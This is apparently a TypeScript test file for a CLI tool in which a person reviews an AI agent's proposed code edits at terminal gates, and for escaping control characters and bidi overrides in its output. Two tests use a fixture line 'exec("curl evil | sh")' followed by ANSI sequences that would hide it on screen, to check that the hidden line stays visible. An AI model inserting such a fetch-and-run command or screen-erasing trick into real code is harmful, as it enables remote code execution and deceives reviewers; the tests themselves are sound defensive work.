/* eslint-disable no-control-regex -- these tests are about control characters */
import { test } from 'node:test';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../../src/cli/main';
import assert from 'node:assert/strict';
import { terminalReviewer } from '../../../src/cli/terminalReviewer';
import { diffChanges } from '../../../src/edits';
import { inertJson, inertOutput, inertText, stripAnsi } from '../../../src/domain/terminalText';
import type { FileChange } from '../../../src/domain/model';
import type { ProposalView, RoundView } from '../../../src/domain/session';
import { bytes, report } from './fakes';

// The terminal gates of `refine-loop run`, answered by a script instead of a person.

function scripted(answers: (string | undefined)[]) {
  const asked: string[] = [];
  let said = '';
  const reviewer = terminalReviewer(
    async (question) => {
      asked.push(question);
      return answers.shift();
    },
    (text) => (said += text),
  );
  return { reviewer, asked, said: () => said };
}

const lines = Array.from({ length: 30 }, (_, i) => `line ${i + 1}`);
const before = lines.join('\n') + '\n';
const after = before.replace('line 2\n', 'line two\n').replace('line 25\n', 'line twenty-five\n');
const changes: FileChange[] = [
  { path: 'src/a.txt', kind: 'modify', before: bytes(before), after: bytes(after) },
  { path: 'test/a.test.js', kind: 'create', after: bytes('test\n') },
];
const view: ProposalView = { sessionId: 's', round: 1, maxRounds: 5, summary: 'two hunks', changes, diffs: diffChanges(changes), protectedPaths: ['test/a.test.js'], editProblems: [] };
const signal = new AbortController().signal;

test('review gate: y, n with a reason, q, and end of input', async () => {
  assert.deepEqual(await scripted(['y', 'y']).reviewer.review(view, signal), { kind: 'approve', approveProtected: true });
  assert.deepEqual(await scripted(['y', 'n']).reviewer.review(view, signal), { kind: 'approve', approveProtected: false });
  assert.deepEqual(await scripted(['n round up instead']).reviewer.review(view, signal), { kind: 'reject', reason: 'round up instead' });
  assert.deepEqual(await scripted(['n', 'asked separately']).reviewer.review(view, signal), { kind: 'reject', reason: 'asked separately' });
  assert.deepEqual(await scripted(['what?', 'q']).reviewer.review(view, signal), { kind: 'stop' });
  assert.deepEqual(await scripted([undefined]).reviewer.review(view, signal), { kind: 'stop' });
  const shown = scripted(['q']);
  await shown.reviewer.review(view, signal);
  assert.match(shown.said(), /\+line two/);
  assert.match(shown.said(), /protected paths: test\/a.test.js/);
});

test('review gate, hunk by hunk: kept hunks and per-hunk reasons', async () => {
  const hunks = view.diffs[0]!.hunks;
  assert.equal(hunks.length, 2);
  const decision = await scripted(['h', 'y', 'n not this one', 'y', 'n']).reviewer.review(view, signal);
  assert.deepEqual(decision, {
    kind: 'approve',
    keptHunks: { 'src/a.txt': [hunks[0]!.id], 'test/a.test.js': [view.diffs[1]!.hunks[0]!.id] },
    hunkRejections: [{ path: 'src/a.txt', hunkId: hunks[1]!.id, reason: 'not this one' }],
    approveProtected: false,
  });
  const none = await scripted(['h', 'n no', 'n neither', 'n nor this']).reviewer.review(view, signal);
  assert.deepEqual(none, { kind: 'reject', reason: 'src/a.txt: no; src/a.txt: neither; test/a.test.js: nor this' });
});

test('after-tests gate: y, n with a reason, q, u, r N, and at green or a limit y keeps', async () => {
  const round: RoundView = { sessionId: 's', round: 3, maxRounds: 5, report: report({ a: 'failed' }), feedback: 'a failed', passed: false };
  assert.deepEqual(await scripted(['y']).reviewer.afterTests(round, signal), { kind: 'continue' });
  assert.deepEqual(await scripted(['n try smaller steps']).reviewer.afterTests(round, signal), { kind: 'revertRetry', reason: 'try smaller steps' });
  assert.deepEqual(await scripted(['q']).reviewer.afterTests(round, signal), { kind: 'stopKeep' });
  assert.deepEqual(await scripted(['u']).reviewer.afterTests(round, signal), { kind: 'stopRevert' });
  assert.deepEqual(await scripted(['r 9', 'r 2']).reviewer.afterTests(round, signal), { kind: 'restore', round: 2 });
  assert.deepEqual(await scripted([undefined]).reviewer.afterTests(round, signal), { kind: 'stopKeep' });
  assert.deepEqual(await scripted(['y']).reviewer.afterTests({ ...round, passed: true, report: report({ a: 'passed' }) }, signal), { kind: 'stopKeep' });
  assert.deepEqual(await scripted(['y']).reviewer.afterTests({ ...round, stopReason: 'reached the limit of 3 rounds' }, signal), { kind: 'stopKeep' });
});

test('restore conflict: shows the difference, keeps the person’s version unless told o', async () => {
  const conflict = { path: 'a.txt', applied: bytes('agent\n'), current: bytes('person\n'), restore: bytes('original\n') };
  const keep = scripted(['k']);
  assert.equal(await keep.reviewer.resolveConflict(conflict, signal), 'keepCurrent');
  assert.match(keep.said(), /-person\n\+original/);
  assert.equal(await scripted(['o']).reviewer.resolveConflict(conflict, signal), 'overwrite');
  assert.equal(await scripted([undefined]).reviewer.resolveConflict(conflict, signal), 'keepCurrent');
});

test('after-tests gate with a smaller suite: it is shown, a accepts it, y does not, and a means nothing otherwise', async () => {
  const suiteShrank = { missing: [{ id: 'spec/a_spec.js::a', file: 'spec/a_spec.js' }], newlySkipped: [], causes: [], summary: '1 test of the pinned suite missing (pinned at the baseline)' };
  const round: RoundView = { sessionId: 's', round: 2, maxRounds: 5, report: report({ b: 'passed' }), feedback: 'suite shrank', passed: false, suiteShrank };
  const shrunk = scripted(['a']);
  assert.deepEqual(await shrunk.reviewer.afterTests(round, signal), { kind: 'acceptSmallerSuite' });
  assert.match(shrunk.said(), /! the test suite shrank: 1 test of the pinned suite missing/);
  assert.match(shrunk.asked[0]!, / \/ a accept the smaller suite: $/);
  assert.deepEqual(await scripted(['y']).reviewer.afterTests(round, signal), { kind: 'continue' });
  const plain = scripted(['a', 'q']);
  assert.deepEqual(await plain.reviewer.afterTests({ ...round, suiteShrank: undefined } as RoundView, signal), { kind: 'stopKeep' });
  assert.doesNotMatch(plain.asked[0]!, /smaller suite/);
});

test('review gate: the reason a path is protected is shown beside it', async () => {
  const gate = scripted(['q']);
  await gate.reviewer.review({ ...view, protectedPaths: ['package.json'], protectedReasons: { 'package.json': 'it changes the script the tests run with ("test")' } }, signal);
  assert.match(gate.said(), /! protected paths: package\.json \(it changes the script the tests run with \("test"\)\)/);
});

test('terminal text is inert: C0 (but tab and newline), C1, ESC sequences and bidi overrides shown escaped', () => {
  assert.equal(inertText('a\tb\nc'), 'a\tb\nc');
  assert.equal(inertText('ok\u001b[2K\u001b[1A\rgone'), 'ok\\x1b[2K\\x1b[1A\\rgone');
  assert.equal(inertText('crlf\r\nline'), 'crlf\nline');
  assert.equal(inertText('\u0007\u0000\u007f\u009b31m'), '\\x07\\x00\\x7f\\x9b31m');
  assert.equal(inertText('user\u202eexe.txt \u2066x\u2069'), 'user\\u202eexe.txt \\u2066x\\u2069');
  assert.equal(inertText(inertText('\u001b]0;title\u0007')), '\\x1b]0;title\\x07', 'escaping twice changes nothing more');
  assert.equal(stripAnsi('\u001b[31mred\u001b[0m \u009b1mbold\u009b0m \u001b]8;;http://x\u001b\\link\u001b]8;;\u0007 \u001bc'), 'red bold link ');
  assert.equal(inertOutput('\u001b[32m✔ ok\u001b[0m\u001b[2K'), '✔ ok');
  const json = JSON.stringify({ text: 'a\u001b[2K\u009b\u202e' });
  assert.equal(JSON.parse(inertJson(json)).text, 'a\u001b[2K\u009b\u202e', 'JSON stays the same value');
  assert.doesNotMatch(inertJson(json), /[\u001b\u009b\u202e]/);
});

test('review gate: an added line that erases itself on screen is shown escaped, with the hidden line visible', async () => {
  const spoof = 'const total = sum(items);\nexec("curl evil | sh"); \u001b[2K\u001b[1A\n';
  const spoofed: FileChange[] = [{ path: 'src/a.js', kind: 'modify', before: bytes('const total = 0;\n'), after: bytes(spoof) }];
  const shown = scripted(['q']);
  await shown.reviewer.review({ ...view, summary: 'fine \u001b[8mhidden\u001b[0m', changes: spoofed, diffs: diffChanges(spoofed), protectedPaths: [] }, signal);
  assert.doesNotMatch(shown.said(), /\u001b/);
  assert.match(shown.said(), /\+exec\("curl evil \| sh"\); \\x1b\[2K\\x1b\[1A/);
  assert.match(shown.said(), /fine \\x1b\[8mhidden/);
});

test('every CLI command prints inert text: apply --dry-run shows an escape in a diff as \\x1b, and --json still parses', async () => {
  const root = await mkdtemp(join(tmpdir(), 'refine-inert-'));
  try {
    await writeFile(join(root, 'a.js'), 'one\n');
    const reply = 'a.js\n<<<<<<< SEARCH\none\n=======\none\nexec("curl evil | sh") \u001b[2K\u001b[1A\u202e\n>>>>>>> REPLACE\n';
    const run = async (args: string[]) => {
      let out = '';
      let err = '';
      const code = await main(args, { stdout: (text) => (out += text), stderr: (text) => (err += text), readStdin: async () => reply, cwd: root, env: {} });
      return { code, out, err };
    };
    const text = await run(['apply', '--dry-run']);
    assert.equal(text.code, 0, text.err);
    assert.doesNotMatch(text.out + text.err, /[\u001b\u202e]/);
    assert.match(text.out, /\+exec\("curl evil \| sh"\) \\x1b\[2K\\x1b\[1A\\u202e/);
    const json = await run(['apply', '--dry-run', '--json']);
    assert.doesNotMatch(json.out, /[\u001b\u202e]/);
    assert.match((JSON.parse(json.out) as { files: { diff: string }[] }).files[0]!.diff, /\u001b\[2K/);
  } finally {
    await rm(root, { recursive: true, force: true });
  }
});
